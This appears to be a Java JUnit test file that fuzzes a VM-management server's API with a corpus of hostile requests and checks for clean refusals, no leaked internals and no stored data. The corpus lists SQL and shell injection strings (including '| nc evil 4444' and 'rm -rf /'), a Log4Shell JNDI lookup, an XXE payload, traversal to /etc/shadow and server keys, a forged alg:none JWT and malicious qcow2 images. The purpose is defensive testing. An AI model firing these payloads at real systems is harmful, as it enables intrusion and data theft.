package io.drover.server.identity;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.drover.server.images.HostileImages;
import io.drover.server.testing.ApiAssertions;
import io.drover.server.testing.RawHttp;
import io.drover.server.testing.TestServer;
import io.drover.server.testing.TestStores;
import io.drover.server.tls.TlsSettings;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A corpus of hostile requests against every operation of the spec: oversized headers and bodies,
 * broken or odd JSON, SQL and shell metacharacters, path traversal, unicode tricks, malformed
 * escapes ({@code %u002e}), unknown charsets, {@code X-HTTP-Method-Override}, forged,
 * expired and revoked tokens, tampered and oversized cookies, lying content types. Each is sent
 * with the credential the route needs (so it reaches the handler) and without any. None may get a
 * 5xx or leak a stack trace, errors under /api/v1 are problem documents, and none stores anything:
 * no request of the corpus is a valid one.
 *
 * <p>Attacks that take more than one request live beside the feature they attack and belong to the
 * corpus too: {@link StolenCredentialContract} (guessing passwords and codes with a stolen session or
 * token, tokens outliving a password change; issue 10, finding 8), the stream tests of
 * {@code events.EventScopeContract} (streams outliving revoked access; finding 6), and
 * {@code audit.AuditApiContract#aKnownCallerRefusedByItsRoleIsRecordedAsThemselves} (finding 9).
 * Weak passwords (finding 14) are {@link #weakPasswordsAreRefusedWhereverAPasswordIsSet} here, the
 * plain HTTP port serving the API and sessions (finding 10) {@link #thePlainPortServesOnlyTheTrackerWhateverTheCredential},
 * with the rest of that finding in {@code http.PlainPortTest}.
 */
abstract class HostileRequestsContract {
    static final String[] STACK_TRACE_MARKS = {"\tat ", "Exception", "java."};
    /**
     * What Jackson's own messages put in an error (issue 10, finding 13): class names, its settings'
     * names and the quoted input. No body may hold any ({@code line: …, column: …} alone would be fine).
     */
    static final String[] JACKSON_MARKS = {"com.fasterxml", "java.lang", "io.drover", "[Source:", "StreamRead", "Jackson",
            "JsonToken", "Cannot deserialize", "Cannot construct instance"};

    @TempDir
    Path tmp;
    TestServer api;
    String admin;
    String host;
    Path imageDir;

    abstract TestStores store();

    @BeforeEach
    void start() {
        imageDir = tmp.resolve("image-dir");
        try {
            Files.createDirectories(imageDir);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        // The corpus goes to the plain port as a TLS-terminating proxy would pass it on (the same
        // handlers as HTTPS, without a TLS handshake per request: over HTTPS the corpus took 285 s on
        // 2 cores); every TLS_SAMPLE-th request goes over HTTPS as well. Without a client
        // certificate: agent routes are sent with a forged bearer credential and must refuse it cleanly.
        api = start(tmp, TlsSettings.defaults().withHttpPortBehindProxy(0));
        admin = api.adminToken();
        host = "dhc_" + UUID.randomUUID();
    }

    static final int TLS_SAMPLE = 10;

    private TestServer start(Path dir, TlsSettings tls) {
        return TestServer.start(store(), dir, c -> c.withIdentity(RouteRoleMatrixTest.generousLimits()).withImageDirs(List.of(imageDir))
                .withTls(tls));
    }

    /** Sends {@code request} as the corpus does: to the plain port, behind the pretended proxy. */
    private RawHttp.Reply send(RawHttp.Request request) throws IOException {
        return RawHttp.send(api.server().httpPort(), request);
    }

    @AfterEach
    void stop() {
        if (api != null) api.close();
    }

    /** One request of the corpus and what it tries. */
    record Attempt(String what, String path, RawHttp.Request request) {
        Attempt withRequest(UnaryOperator<RawHttp.Request> change) {
            return new Attempt(what, path, change.apply(request));
        }

        Attempt named(String suffix) {
            return new Attempt(what + suffix, path, request);
        }
    }

    @Test
    void noHostileRequestFailsTheServerLeaksItsInsidesOrStoresAnything() throws Exception {
        List<Attempt> corpus = corpus();
        Map<String, Integer> before = counts();
        List<String> wrong = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        for (int i = 0; i < corpus.size(); i++) {
            Attempt attempt = corpus.get(i);
            RawHttp.Reply reply;
            try {
                reply = send(attempt.request());
            } catch (IOException e) {
                wrong.add(attempt.what() + ": no answer (" + e.getMessage() + ")");
                continue;
            }
            statuses.merge(reply.status(), 1, Integer::sum);
            String problem = judge(attempt, reply);
            if (problem != null) wrong.add(attempt.what() + ": " + problem);
            if (i % TLS_SAMPLE == 0) {
                String overTls = overTls(attempt);
                if (overTls != null) wrong.add(attempt.what() + " (HTTPS): " + overTls);
            }
        }
        System.out.println(getClass().getSimpleName() + ": " + corpus.size() + " hostile requests sent; statuses " + statuses);
        assertThat(corpus.size()).isGreaterThanOrEqualTo(200);
        assertThat(wrong).as("hostile requests answered badly").isEmpty();
        assertThat(counts()).as("what is stored, after the corpus").isEqualTo(before);
        // The server still serves the legitimate.
        assertThat(api.get("/api/v1/auth/session").statusCode()).isEqualTo(200);
    }

    /**
     * Issue 10, finding 14: weak passwords were accepted. Refused with a 400 that says why, at user
     * creation, at a user's own change and at an admin's reset: one character repeated, a common
     * password (any case), and as a replacement, the current password again.
     */
    @Test
    void weakPasswordsAreRefusedWhereverAPasswordIsSet() {
        String good = "correct-horse-battery-7";
        for (String[] weak : new String[][] {{"aaaaaaaaaaaa", "one character repeated"}, {"%%%%%%%%%%%%%%%%", "one character repeated"},
                {"Password1234", "common passwords"}, {"qwerty123456", "common passwords"}, {"123456789012", "common passwords"},
                {"1q2w3e4r5t6y", "common passwords"}, {"ILOVEYOU2024", "common passwords"}, {"abcabcabcabc", "common passwords"},
                {"short-one", "at least 12"}}) {
            ApiAssertions.assertProblem(api.postAsAdmin("/api/v1/users",
                    "{\"username\":\"weak\",\"password\":\"" + weak[0] + "\"}"), 400, weak[1]);
        }
        HttpResponse<String> made = api.postAsAdmin("/api/v1/users", "{\"username\":\"weak\",\"password\":\"" + good + "\"}");
        assertThat(made.statusCode()).as(made.body()).isEqualTo(201);
        String id = ApiAssertions.json(made).get("user").get("id").asText();
        String token = api.tokenFor("weak", good);

        ApiAssertions.assertProblem(api.as(token, "POST", "/api/v1/auth/password",
                "{\"current_password\":\"" + good + "\",\"new_password\":\"" + good + "\"}"), 400, "differ from the current");
        ApiAssertions.assertProblem(api.as(token, "POST", "/api/v1/auth/password",
                "{\"current_password\":\"" + good + "\",\"new_password\":\"aaaaaaaaaaaaaaaaaaaa\"}"), 400, "one character repeated");
        ApiAssertions.assertProblem(api.as(token, "POST", "/api/v1/auth/password",
                "{\"current_password\":\"" + good + "\",\"new_password\":\"letmein12345\"}"), 400, "common passwords");
        ApiAssertions.assertProblem(api.postAsAdmin("/api/v1/users/" + id + "/password",
                "{\"new_password\":\"" + good + "\"}"), 400, "differ from the current");
        ApiAssertions.assertProblem(api.postAsAdmin("/api/v1/users/" + id + "/password",
                "{\"new_password\":\"zzzzzzzzzzzzzz\"}"), 400, "one character repeated");
        ApiAssertions.assertProblem(api.postAsAdmin("/api/v1/users/" + id + "/password",
                "{\"new_password\":\"Welcome12345\"}"), 400, "common passwords");
        // None of it changed the password.
        api.login("weak", good);
    }

    /**
     * Issue 10, finding 13: error bodies named Jackson's insides ({@code StreamReadConstraints},
     * {@code [Source: …]}, Java types). The bodies Jackson words its own way, to the routes that read
     * JSON by each of the server's readers (the heartbeat's streaming parser, the API's and the
     * original create API's data binding): every answer is a 4xx in the API's words.
     */
    @Test
    void noJsonErrorNamesJacksonsInsides() throws Exception {
        List<String> jacksonish = List.of("unknown enum values", "wrong shapes", "nested wrong types", "numbers out of range",
                "nulls where objects go", "truncated inside an object", "truncated string", "nested beyond 32 in a field",
                "a 60,000 character field name", "a number of 2,000 digits", "a control character in a string",
                "deeply nested object", "wrong types", "broken JSON", "JSON array");
        Map<String, byte[]> all = bodies();
        List<String> wrong = new ArrayList<>();
        for (String[] route : new String[][] {{"POST", "/api/register"}, {"POST", "/api/v1/vms"}, {"POST", "/api/v1/vm"},
                {"POST", "/api/v1/users"}, {"POST", "/api/v1/projects"}, {"PATCH", "/api/v1/projects/default"},
                {"POST", "/api/v1/auth/login"}, {"POST", "/api/v1/hosts/join"}, {"POST", "/api/v1/auth/tokens"},
                {"PUT", "/api/v1/settings/ldap"}, {"POST", "/api/v1/images"}, {"POST", "/api/v1/hosts/join-tokens"}}) {
            for (String name : jacksonish) {
                Attempt a = attempt(route[0] + " " + route[1] + " " + name, route[1], route[0], route[1], all.get(name))
                        .withRequest(r -> r.with("Content-Type", "application/json").with("Authorization", "Bearer " + admin));
                RawHttp.Reply reply = send(a.request());
                String problem = reply.status() >= 400 && reply.status() < 500 ? judge(a, reply) : "status " + reply.status() + " " + reply.body();
                if (problem != null) wrong.add(a.what() + ": " + problem);
            }
        }
        assertThat(wrong).isEmpty();
    }

    /**
     * Issue 10, finding 10: the plain HTTP port served the console, sign-in and the whole API, and a
     * session made over HTTPS worked over it. Every operation of the spec (and the console's pages)
     * is sent to the plain port with a valid body, once with the admin's API token and once with a
     * session cookie and its CSRF token from a sign-in over HTTPS: all but the tracker's routes
     * answer 403 naming the HTTPS URL, none sets a cookie, and nothing is stored or ended.
     */
    @Test
    void thePlainPortServesOnlyTheTrackerWhateverTheCredential() throws Exception {
        // This one needs a plain port that is not behind a proxy, as --http-port alone gives.
        api.close();
        api = start(tmp.resolve("direct"), TlsSettings.defaults().withHttpPort(0));
        admin = api.adminToken();
        TestServer.Session session = api.login(Users.FIRST_ADMIN, api.server().initialAdminPassword().orElseThrow());
        Map<String, Integer> before = counts();
        List<String> wrong = new ArrayList<>();
        Map<String, String> operations = new LinkedHashMap<>(RouteRoleMatrixTest.specOperations());
        for (String page : List.of("GET /", "GET /console/app.js", "GET /api/docs", "GET /api/openapi.yaml")) operations.put(page, "public");
        for (String op : operations.keySet()) {
            String method = op.substring(0, op.indexOf(' '));
            String path = op.substring(method.length() + 1);
            String body = switch (op) {
                case "POST /api/v1/auth/login" -> "{\"username\":\"admin\",\"password\":\"" + api.server().initialAdminPassword().orElseThrow() + "\"}";
                case "POST /api/v1/projects" -> "{\"name\":\"over-plain\"}";
                case "POST /api/v1/auth/tokens" -> "{\"name\":\"over-plain\"}";
                case "POST /api/v1/users" -> "{\"username\":\"plain-user\",\"password\":\"correct-horse-battery-7\",\"role\":\"admin\"}";
                default -> method.equals("GET") || method.equals("DELETE") ? null : "{}";
            };
            RawHttp.Request request = new RawHttp.Request(method, placeholders(path, "default"), List.of(),
                    body == null ? null : body.getBytes(StandardCharsets.UTF_8)).with("Content-Type", "application/json");
            boolean tracker = op.equals("POST /api/register") || op.equals("GET /install.sh") || op.equals("GET /healthz");
            for (RawHttp.Request sent : List.of(request.with("Authorization", "Bearer " + admin),
                    request.with("Cookie", session.cookie()).with("X-CSRF-Token", session.csrfToken()))) {
                RawHttp.Reply reply = RawHttp.send(api.server().httpPort(), sent);
                String what = op + (sent.headers().toString().contains("Cookie") ? " (session)" : " (token)");
                if (!reply.header("Set-Cookie").isEmpty()) wrong.add(what + ": sets a cookie over plain HTTP");
                if (!reply.header("Strict-Transport-Security").isEmpty()) wrong.add(what + ": HSTS over plain HTTP");
                if (tracker) {
                    if (reply.status() == 403) wrong.add(what + ": a tracker route refused: " + reply.body());
                } else if (reply.status() != 403 || !reply.header("Content-Type").startsWith("application/problem+json")
                        || !reply.body().contains("use HTTPS: https://127.0.0.1:" + api.httpsPort())) {
                    wrong.add(what + ": served over plain HTTP: " + reply.status() + " " + clip(reply.body()));
                }
            }
        }
        assertThat(wrong).as("the plain port's answers").isEmpty();
        assertThat(counts()).as("what is stored, after the plain-port requests").isEqualTo(before);
        // The session was neither ended nor used up: it still works where it belongs.
        assertThat(api.send(session.request("/api/v1/auth/session")).statusCode()).isEqualTo(200);
    }

    /** The attempt over HTTPS: null when the answer is sound, else what is wrong. */
    private String overTls(Attempt attempt) {
        try {
            return judge(attempt, api.raw(attempt.request()));
        } catch (IOException first) {
            // Once in a few thousand, the connection Jetty closes after refusing a malformed header
            // lost the answer on its way over TLS (seen for a NUL in a header): a server that does
            // not answer fails the second try too.
            try {
                return judge(attempt, api.raw(attempt.request()));
            } catch (IOException e) {
                return "no answer (" + e.getMessage() + ")";
            }
        }
    }

    /** Null when the answer is sound, else what is wrong with it. */
    static String judge(Attempt attempt, RawHttp.Reply reply) {
        if (reply.status() >= 500) return "status " + reply.status() + " " + clip(reply.body());
        for (String mark : STACK_TRACE_MARKS) {
            if (reply.body().contains(mark)) return "body holds '" + mark.replace("\t", "\\t") + "': " + clip(reply.body());
        }
        for (String mark : JACKSON_MARKS) {
            if (reply.body().contains(mark)) return "body holds Jackson's '" + mark + "': " + clip(reply.body());
        }
        String type = reply.header("Content-Type");
        if (attempt.path().startsWith("/api/v1/") && reply.status() >= 400 && !reply.body().isEmpty()) {
            if (!type.startsWith("application/problem+json")) return "error is not a problem document (" + type + "): " + clip(reply.body());
        }
        if (type.contains("json") && !reply.body().isEmpty()) {
            try {
                JsonNode body = ApiAssertions.JSON.readTree(reply.body());
                if (reply.status() >= 400 && body.path("status").isMissingNode()) return "error body without status: " + clip(reply.body());
            } catch (IOException e) {
                return "a JSON content type, but not JSON: " + clip(reply.body());
            }
        }
        return null;
    }

    private static String clip(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "…" : s;
    }

    /** How many of each stored thing there are, read through the API as the admin. */
    Map<String, Integer> counts() throws Exception {
        Map<String, Integer> counts = new LinkedHashMap<>();
        for (String list : List.of("/api/v1/users", "/api/v1/projects", "/api/v1/vms", "/api/v1/images", "/api/v1/hosts",
                "/api/v1/machines", "/api/v1/auth/tokens", "/api/v1/tasks")) {
            int n = 0;
            String cursor = null;
            do {
                HttpResponse<String> r = api.get(list + "?limit=100" + (cursor == null ? "" : "&cursor=" + cursor));
                assertThat(r.statusCode()).as(list + ": " + r.body()).isEqualTo(200);
                JsonNode page = ApiAssertions.json(r);
                n += page.get("items").size();
                cursor = page.path("next_cursor").isTextual() ? page.get("next_cursor").asText() : null;
            } while (cursor != null);
            counts.put(list, n);
        }
        counts.put("/api/vms", ApiAssertions.json(api.get("/api/vms")).size());
        return counts;
    }

    // ---- the corpus ----

    static final List<String> PATH_VALUES = List.of(
            "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows", "a%2Fb", "%252e%252e%252f",
            "%27%20OR%201%3D1%20--", "x%3B%20DROP%20TABLE%20users%3B--", "%24(reboot)", "%60id%60", "a%3B%20rm%20-rf%20%2F",
            "a%00b", "a%0D%0ASet-Cookie:%20x=y", "%E2%80%AEtxt.exe", "a%E2%80%8Bb", "%D0%B0dmin", "%C0%AE%C0%AE%C0%AF",
            "%ED%A0%80", "%FF%FE", "A".repeat(5000), "%", "%u002e", "a%u", "%uD800%uDC00");
    static final List<String> STRING_VALUES = List.of(
            "' OR 1=1 --", "x'; DROP TABLE users; --", "\" OR \"\"=\"", "$(reboot)", "`id`", "a; rm -rf /", "| nc evil 4444",
            "../../etc/passwd", "..\\..\\windows\\system32", "a\u0000b", "a\r\nX-Injected: 1", "\u202Egnp.exe", "ad\u200Bmin",
            "\u0430dmin", "\uD800", "\uDFFFx", "%00", "${jndi:ldap://evil/a}", "{{7*7}}", "<script>alert(1)</script>", "x".repeat(70_000));
    /** Every field name a route of the spec reads, so each value lands where a handler looks. */
    static final List<String> FIELDS = List.of("name", "username", "password", "role", "path", "format", "image", "host",
            "user_data", "join_token", "hostname", "ip_address", "interface", "uuid", "os", "agent_version", "current_password",
            "new_password", "totp", "Name", "RAM", "CPU", "Disk", "description");

    List<Attempt> corpus() throws Exception {
        String expired = token("{\"name\":\"soon expired\",\"ttl_seconds\":1}");
        String revoked = token("{\"name\":\"revoked\"}");
        String revokedId = null;
        for (JsonNode t : ApiAssertions.json(api.get("/api/v1/auth/tokens")).get("items")) {
            if (t.get("name").asText().equals("revoked")) revokedId = t.get("id").asText();
        }
        assertThat(api.delete("/api/v1/auth/tokens/" + revokedId, admin).statusCode()).isEqualTo(204);
        String session = api.login(Users.FIRST_ADMIN, api.server().initialAdminPassword().orElseThrow()).cookie();
        Thread.sleep(1_100);

        List<Attempt> all = new ArrayList<>();
        Map<String, String> spec = RouteRoleMatrixTest.specOperations();
        for (Map.Entry<String, String> op : spec.entrySet()) {
            String method = op.getKey().substring(0, op.getKey().indexOf(' '));
            String path = op.getKey().substring(method.length() + 1);
            String permission = op.getValue();
            String credential = switch (permission) {
                case "public", "registration" -> null;
                case "agent" -> host;
                default -> admin;
            };
            boolean hasBody = !method.equals("GET") && !method.equals("DELETE");
            String concrete = placeholders(path, "nope-" + UUID.randomUUID().toString().substring(0, 8));
            List<Attempt> mine = new ArrayList<>();

            if (path.contains("{")) {
                for (String value : PATH_VALUES) mine.add(attempt(op.getKey() + " path param " + clip(value), path, method,
                        placeholders(path, value), hasBody ? json("{}") : null));
            }
            if (hasBody) {
                for (Map.Entry<String, byte[]> body : bodies().entrySet()) {
                    mine.add(attempt(op.getKey() + " body " + body.getKey(), path, method, concrete, body.getValue())
                            .withRequest(r -> r.with("Content-Type", "application/json")));
                }
                mine.add(attempt(op.getKey() + " xml as json", path, method, concrete,
                        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(StandardCharsets.UTF_8))
                        .withRequest(r -> r.with("Content-Type", "application/xml")));
                mine.add(attempt(op.getKey() + " multipart garbage", path, method, concrete,
                        "--zz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n\r\n' OR 1=1\r\n".getBytes(StandardCharsets.UTF_8))
                        .withRequest(r -> r.with("Content-Type", "multipart/form-data; boundary=zz")));
                mine.add(attempt(op.getKey() + " form urlencoded", path, method, concrete, "name=%27%20OR%201%3D1&username=$(id)".getBytes(StandardCharsets.UTF_8))
                        .withRequest(r -> r.with("Content-Type", "application/x-www-form-urlencoded")));
                mine.add(attempt(op.getKey() + " unknown charset", path, method, concrete, json("{}"))
                        .withRequest(r -> r.with("Content-Type", "application/json; charset=bogus")));
            } else {
                mine.add(attempt(op.getKey() + " query", path, method,
                        concrete + "?limit=-1&cursor=%27%20OR%201%3D1--&q=%24(reboot)&status=..%2F..&type=%00&host=%E2%80%AE&vm=%ED%A0%80", null));
                mine.add(attempt(op.getKey() + " query limit huge", path, method, concrete + "?limit=99999999999999999999&cursor=" + "A".repeat(4000), null));
            }
            // Another method by header (Javalin honoured it: a GET deleted).
            for (String other : new String[] {"DELETE", "POST", "PATCH"}) {
                mine.add(attempt(op.getKey() + " X-HTTP-Method-Override " + other, path, method, concrete, hasBody ? json("{}") : null)
                        .withRequest(r -> r.with("X-HTTP-Method-Override", other)));
            }
            mine.add(attempt(op.getKey() + " query with %u escapes", path, method, concrete + "?q=%u002e&cursor=%uD800", hasBody ? json("{}") : null));
            // Headers: oversized, duplicated, with control characters.
            mine.add(attempt(op.getKey() + " 64 KiB header", path, method, concrete, hasBody ? json("{}") : null)
                    .withRequest(r -> r.with("X-Filler", "a".repeat(64 * 1024))));
            mine.add(attempt(op.getKey() + " NUL in header", path, method, concrete, hasBody ? json("{}") : null)
                    .withRequest(r -> r.with("X-Evil", "a\u0000b")));

            for (Attempt a : mine) {
                all.add(credential == null ? a : a.withRequest(r -> r.with("Authorization", "Bearer " + credential)).named(" (with credential)"));
                if (credential != null) all.add(a.named(" (anonymous)"));
            }

            // Forged credentials: reaching the handler is exactly what they must not do.
            Map<String, List<String[]>> forged = new LinkedHashMap<>();
            forged.put("random dat_", List.<String[]>of(new String[] {"Authorization", "Bearer dat_" + UUID.randomUUID()}));
            forged.put("JWT", List.<String[]>of(new String[] {"Authorization", "Bearer " + jwt()}));
            forged.put("10 KiB bearer", List.<String[]>of(new String[] {"Authorization", "Bearer dat_" + "x".repeat(10 * 1024)}));
            forged.put("expired token", List.<String[]>of(new String[] {"Authorization", "Bearer " + expired}));
            forged.put("revoked token", List.<String[]>of(new String[] {"Authorization", "Bearer " + revoked}));
            forged.put("basic auth", List.<String[]>of(new String[] {"Authorization", "Basic " + Base64.getEncoder().encodeToString("admin:admin".getBytes())}));
            forged.put("empty bearer", List.<String[]>of(new String[] {"Authorization", "Bearer "}));
            forged.put("forged host credential", List.<String[]>of(new String[] {"Authorization", "Bearer dhc_" + UUID.randomUUID()}));
            forged.put("two Authorization headers", List.of(new String[] {"Authorization", "Bearer dat_forged"}, new String[] {"Authorization", "Bearer " + admin}));
            forged.put("tampered session cookie", List.<String[]>of(new String[] {"Cookie", tamper(session)}));
            forged.put("duplicate session cookies", List.<String[]>of(new String[] {"Cookie", Sessions.COOKIE + "=dss_forged; " + tamper(session) + "; " + Sessions.COOKIE + "=x"}));
            forged.put("huge cookie", List.<String[]>of(new String[] {"Cookie", Sessions.COOKIE + "=dss_" + "y".repeat(7000)}));
            forged.put("cookie with CSRF guess", List.of(new String[] {"Cookie", tamper(session)}, new String[] {"X-CSRF-Token", "' OR 1=1 --"}));
            for (Map.Entry<String, List<String[]>> f : forged.entrySet()) {
                Attempt a = attempt(op.getKey() + " " + f.getKey(), path, method, concrete, hasBody ? json("{}") : null);
                for (String[] h : f.getValue()) a = a.withRequest(r -> r.with(h[0], h[1]));
                all.add(a);
            }
        }
        all.addAll(hostileImages());
        return all;
    }

    /**
     * Issue 10, finding 1: images made by qemu-img whose qcow2 header would make a host's QEMU open
     * one of the host's files, and an ISO/qcow2 polyglot, uploaded by the admin every way; and
     * registrations by path of the server's own keys and database and of system files.
     */
    List<Attempt> hostileImages() throws Exception {
        Path made = Files.createDirectories(tmp.resolve("hostile-images"));
        Map<String, byte[]> images = new LinkedHashMap<>();
        images.put("qcow2 with /etc/shadow as data file", HostileImages.qcow2NamingDataFile(made, "/etc/shadow"));
        images.put("qcow2 on /etc/shadow as backing file", HostileImages.qcow2WithBackingFile(made, "/etc/shadow"));
        images.put("ISO/qcow2 polyglot", HostileImages.isoQcow2Polyglot(made));
        List<Attempt> attempts = new ArrayList<>();
        // Issue 10, finding 2: the server's own secrets and system files by path, by .. and by links in the image dir.
        Path data = tmp.resolve("data");
        Files.createSymbolicLink(imageDir.resolve("ca.img"), data.resolve("tls/ca.key"));
        Files.createSymbolicLink(imageDir.resolve("shadow.img"), Path.of("/etc/shadow"));
        Files.createSymbolicLink(imageDir.resolve("data"), data);
        for (String path : List.of(data.resolve("tls/ca.key").toString(), data.resolve("tls/server.key").toString(),
                data.resolve("secret.key").toString(), data.resolve("drover.mv.db").toString(), "/etc/shadow",
                imageDir + "/../data/secret.key", imageDir + "/../../../../../etc/shadow", imageDir.resolve("ca.img").toString(),
                imageDir.resolve("shadow.img").toString(), imageDir.resolve("data/secret.key").toString(), "/proc/self/environ")) {
            attempts.add(attempt("POST /api/v1/images by path " + path, "/api/v1/images", "POST", "/api/v1/images",
                    json("{\"name\":\"stolen\",\"path\":" + quote(path) + "}"))
                    .withRequest(r -> r.with("Content-Type", "application/json").with("Authorization", "Bearer " + admin)));
        }
        for (Map.Entry<String, byte[]> image : images.entrySet()) {
            for (String format : List.of("", "&format=qcow2", "&format=iso")) {
                attempts.add(attempt("POST /api/v1/images upload " + image.getKey() + format, "/api/v1/images", "POST",
                        "/api/v1/images?name=hostile" + format, image.getValue())
                        .withRequest(r -> r.with("Content-Type", "application/octet-stream").with("Authorization", "Bearer " + admin)));
            }
        }
        return attempts;
    }

    /** Bodies of every hostile kind; none is a valid request for any route. */
    static Map<String, byte[]> bodies() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("broken JSON", bytes("{\"name\": \"x\", "));
        bodies.put("not JSON", bytes("' OR 1=1 --"));
        bodies.put("JSON array", bytes("[1,2,3]"));
        bodies.put("JSON string", bytes("\"admin\""));
        bodies.put("wrong types", bytes("{\"name\":123,\"username\":[],\"password\":{},\"role\":true,\"cpus\":\"many\",\"memory_mib\":-1,"
                + "\"disk_gib\":1e400,\"ttl_seconds\":\"soon\",\"read_only\":\"yes\",\"disabled\":\"no\",\"projects\":\"all\","
                + "\"ssh_keys\":7,\"start\":\"x\",\"timeout_seconds\":-5,\"join_token\":5,\"hostname\":null,\"ip_address\":[1]}"));
        bodies.put("deeply nested", bytes("[".repeat(20_000) + "]".repeat(20_000)));
        bodies.put("deeply nested object", bytes("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)));
        bodies.put("oversized (100 KiB)", bytes("{\"name\":\"" + "x".repeat(100 * 1024) + "\"}"));
        bodies.put("huge number", bytes("{\"cpus\":" + "9".repeat(5000) + ",\"ttl_seconds\":" + "9".repeat(5000) + "}"));
        bodies.put("overlong UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC0, (byte) 0xAE, (byte) 0xC0, (byte) 0xAF, '"', '}'});
        bodies.put("invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'});
        // Shapes and values Jackson words its own way (issue 10, finding 13): its messages must not reach the body.
        bodies.put("unknown enum values", bytes("{\"role\":\"root\",\"format\":\"vhdx\",\"accel\":\"warp\",\"status\":\"sleeping\","
                + "\"strategy\":\"x\",\"type\":\"nope\",\"name\":7}"));
        bodies.put("wrong shapes", bytes("{\"name\":{\"a\":1},\"username\":{\"b\":[]},\"projects\":{\"x\":1},\"ssh_keys\":{\"k\":\"v\"},"
                + "\"quota\":[1,2],\"csr\":[],\"cpus\":{\"n\":1},\"password\":[\"x\"],\"hostname\":{}}"));
        bodies.put("nested wrong types", bytes("{\"name\":[[1]],\"quota\":{\"vms\":\"many\",\"vcpus\":[1],\"disk_gib\":{}},"
                + "\"projects\":[{\"a\":1}],\"ssh_keys\":[[\"k\"]],\"ip_addresses\":[{}]}"));
        bodies.put("numbers out of range", bytes("{\"name\":1,\"cpus\":99999999999,\"ttl_seconds\":99999999999999999999,"
                + "\"memory_mib\":1e20,\"timeout_seconds\":-99999999999,\"interval_seconds\":1e999}"));
        bodies.put("nulls where objects go", bytes("{\"name\":null,\"quota\":null,\"projects\":[null],\"ssh_keys\":[null]}"));
        bodies.put("truncated inside an object", bytes("{\"name\":\"x\",\"quota\":{\"vms\":1,"));
        bodies.put("truncated string", bytes("{\"name\":\"x"));
        bodies.put("nested beyond 32 in a field", bytes("{\"hostname\":\"h\",\"extra\":" + "{\"a\":".repeat(40) + "1" + "}".repeat(40) + "}"));
        bodies.put("a 60,000 character field name", bytes("{\"" + "n".repeat(60_000) + "\":1}"));
        bodies.put("a number of 2,000 digits", bytes("{\"name\":\"x\",\"cpus\":" + "1".repeat(2_000) + "}"));
        bodies.put("a control character in a string", bytes("{\"name\":\"a\u0001b\"}"));
        // Lenient readings that would change what the caller meant: each is a valid request but for its flaw.
        bodies.put("trailing garbage", bytes("{\"name\":\"trailing-garbage\"} {\"role\":\"admin\"}"));
        bodies.put("a string for a number", bytes("{\"name\":\"coerced\",\"ttl_seconds\":\"3600\"}"));
        bodies.put("a fraction for a whole number", bytes("{\"name\":\"fraction\",\"ttl_seconds\":3600.9}"));
        bodies.put("a string for a flag", bytes("{\"name\":\"flag-string\",\"read_only\":\"false\"}"));
        bodies.put("duplicate keys", bytes("{\"name\":\"ok-name\",\"name\":\"' OR 1=1\",\"role\":\"viewer\",\"role\":\"root\"}"));
        for (int i = 0; i < STRING_VALUES.size(); i++) {
            String value = STRING_VALUES.get(i);
            StringBuilder json = new StringBuilder("{");
            for (String field : FIELDS) json.append('"').append(field).append("\":").append(quote(value)).append(',');
            // Numbers and flags wrong too, so no route finds a valid request here.
            json.append("\"cpus\":").append(quote(value)).append(",\"ttl_seconds\":").append(quote(value))
                    .append(",\"projects\":[").append(quote(value)).append("],\"ssh_keys\":[").append(quote(value)).append("]}");
            bodies.put("strings #" + i + " " + quote(value.length() > 30 ? value.substring(0, 30) : value), bytes(json.toString()));
        }
        return bodies;
    }

    private static Attempt attempt(String what, String path, String method, String target, byte[] body) {
        return new Attempt(what, path, new RawHttp.Request(method, target, List.of(), body));
    }

    private static String placeholders(String path, String value) {
        return path.replace("{hostname}", value).replace("{name}", value).replace("{id}", value).replace("{network}", value).replace("{subnet}", value);
    }

    private String token(String body) {
        HttpResponse<String> r = api.postAsAdmin("/api/v1/auth/tokens", body);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
        return ApiAssertions.json(r).get("token").asText();
    }

    private static String tamper(String cookie) {
        char last = cookie.charAt(cookie.length() - 1);
        return cookie.substring(0, cookie.length() - 1) + (last == 'Q' ? 'R' : 'Q');
    }

    private static String jwt() {
        Base64.Encoder b = Base64.getUrlEncoder().withoutPadding();
        return b.encodeToString(bytes("{\"alg\":\"none\",\"typ\":\"JWT\"}")) + "." + b.encodeToString(bytes("{\"sub\":\"admin\",\"role\":\"admin\"}")) + ".";
    }

    private static byte[] json(String s) {
        return bytes(s);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** A JSON string literal (JSON escapes for control characters; lone surrogates as \\u escapes). */
    static String quote(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') out.append('\\').append(c);
            else if (c < 0x20 || Character.isSurrogate(c)) out.append(String.format("\\u%04x", (int) c));
            else out.append(c);
        }
        return out.append('"').toString();
    }
}
